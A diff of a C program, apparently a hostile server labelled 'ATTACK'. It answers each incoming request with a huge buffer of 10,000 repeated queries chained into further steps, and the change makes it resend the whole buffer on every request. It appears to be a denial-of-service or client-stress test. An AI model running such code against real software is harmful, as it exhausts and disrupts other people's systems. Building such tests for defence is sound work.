@@ -1,4 +1,4 @@
-/* Asks for the link addresses of 10,000 hosts in each step, and gets as many answers, each a step. */
+/* Asks for the link addresses of 10,000 hosts in each step. Each answer is a further step. */
 #include <stdint.h>
 #include <string.h>
 #include <sys/socket.h>
@@ -16,15 +16,14 @@ ATTACK
 	for (unsigned i = 0; i < COUNT; i++)
 		memcpy(answer + i * sizeof(question), question, sizeof(question));
 	memcpy(answer + sizeof(answer) - sizeof(next), next, sizeof(next));
-	for (unsigned steps = 0; recv(0, head, 5, MSG_WAITALL) == 5;) {
+	while (recv(0, head, 5, MSG_WAITALL) == 5) {
 		size_t len = (size_t)head[2] << 16 | (size_t)head[3] << 8 | head[4];
-		size_t done = steps == 0 ? 0 : sizeof(answer) - sizeof(next);
 
 		if (len > 0 && recv(0, body, len, MSG_WAITALL) != (ssize_t)len)
 			break;
 		if (head[0] != 'G')
 			continue;
-		for (; done < sizeof(answer); steps++) {
+		for (size_t done = 0; done < sizeof(answer);) {
 			ssize_t count = send(0, answer + done, sizeof(answer) - done, 0);
 
 			if (count <= 0)
